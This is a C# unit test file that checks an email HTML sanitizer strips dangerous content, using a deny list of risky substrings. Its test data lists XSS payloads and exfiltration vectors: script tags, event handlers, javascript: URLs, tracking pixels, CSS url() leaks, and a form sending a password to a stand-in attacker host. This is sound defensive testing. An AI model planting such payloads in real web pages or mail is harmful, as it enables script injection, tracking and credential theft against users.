using System.Text.RegularExpressions;
using AgentWorkspace.Core.Features.Ingest;

namespace AgentWorkspace.Tests.Ingest;

public partial class EmailSanitizerTests
{
    private static readonly EmailSanitizer Sanitizer = new();

    /// <summary>XSS and exfiltration vectors (OWASP cheat sheet, tracking pixels, CSS leaks).</summary>
    public static TheoryData<string> Hostile() =>
    [
        "<script>alert(1)</script>hello",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://tracker.example/pixel.gif?u=42\" width=1 height=1>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<svg onload=alert(1)><circle r=5/></svg>",
        "<body onload=alert(1)>text</body>",
        "<details open ontoggle=alert(1)>x</details>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/steal\"><input name=password><button>Go</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css'; body { background: url(https://tracker.example/b) }</style>",
        "<div style=\"background:url(https://tracker.example/bg.gif)\">bg</div>",
        "<div style=\"background-image: url('https://tracker.example/bg.gif')\">bg</div>",
        "<p style=\"width: expression(alert(1))\">ie</p>",
        "<p style=\"list-style-image:url(https://tracker.example/li)\">li</p>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
        "<div style=\"behavior: url(https://evil.example/x.htc)\">htc</div>",
        "<p style=\"background: image-set('https://tracker.example/a.png' 1x)\">set</p>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<img srcset=\"https://tracker.example/a.png 1x\" alt=a>",
        "<video poster=\"https://tracker.example/p.png\"><source src=\"https://tracker.example/v.mp4\"></video>",
        "<table background=\"https://tracker.example/t.gif\"><tr><td>t</td></tr></table>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<a href=\"https://shop.example\" onclick=\"steal()\">shop</a>",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void NothingActiveOrTrackingSurvivesSanitizing(string html)
    {
        var safe = Sanitizer.Clean(null, html).SanitizedHtml ?? string.Empty;
        var lower = safe.ToLowerInvariant();
        foreach (var bad in new[] { "<script", "javascript:", "vbscript:", "url(", "expression(", "image-set", "<iframe", "<object", "<embed", "<form",
                     "<input", "<button", "<meta", "<base", "<link", "<style", "<svg", "tracker.example", "evil.example", "data:text" })
            lower.ShouldNotContain(bad, customMessage: $"{html} → {safe}");
        // No element carries an event handler (text that merely looks like one inside an attribute value is inert).
        var dom = new AngleSharp.Html.Parser.HtmlParser().ParseDocument("<body>" + safe + "</body>");
        dom.Body!.QuerySelectorAll("*").SelectMany(e => e.Attributes).Where(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
            .ShouldBeEmpty($"{html} → {safe}");
        PositionProperty().IsMatch(safe).ShouldBeFalse($"{html} → {safe}");
    }

    [GeneratedRegex(@"(^|[;""\s])position\s*:", RegexOptions.IgnoreCase)]
    private static partial Regex PositionProperty();

    [Fact]
    public void HarmlessMarkupAndStylesStayAndLinksOpenSafely()
    {
        var content = Sanitizer.Clean(null,
            "<p style=\"color: red; font-weight: bold\">Bonjour</p><p>Ma commande <b>1234</b> : <a href=\"https://shop.example/o/1234\">suivi</a></p>" +
            "<ul><li>un</li><li>deux</li></ul><img src=\"cid:logo@x\" alt=\"logo\"><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">");
        var html = content.SanitizedHtml!;
        html.ShouldContain("color: rgba(255, 0, 0, 1)");
        html.ShouldContain("font-weight: bold");
        html.ShouldContain("<b>1234</b>");
        html.ShouldContain("href=\"https://shop.example/o/1234\"");
        html.ShouldContain("rel=\"noopener noreferrer nofollow\"");
        html.ShouldContain("target=\"_blank\"");
        html.ShouldContain("src=\"cid:logo@x\"");
        html.ShouldContain("data:image/png;base64");
        content.Text.ShouldBe("Bonjour\n\nMa commande 1234 : suivi (https://shop.example/o/1234)\n\n• un\n• deux\n\n[logo][dot]");
    }

    [Fact]
    public void TheTextOfAMailIsItsBodyWhenGivenElseDerivedFromTheSanitizedHtml()
    {
        Sanitizer.Clean("  Texte fourni  ", "<p>Autre</p>").Text.ShouldBe("Texte fourni");
        Sanitizer.Clean(null, "<script>alert('x')</script><p>Visible</p>").Text.ShouldBe("Visible");
        Sanitizer.Clean(null, "<script>only()</script>").SanitizedHtml.ShouldBeNull();
        Sanitizer.Clean("plain", null).SanitizedHtml.ShouldBeNull();
    }
}
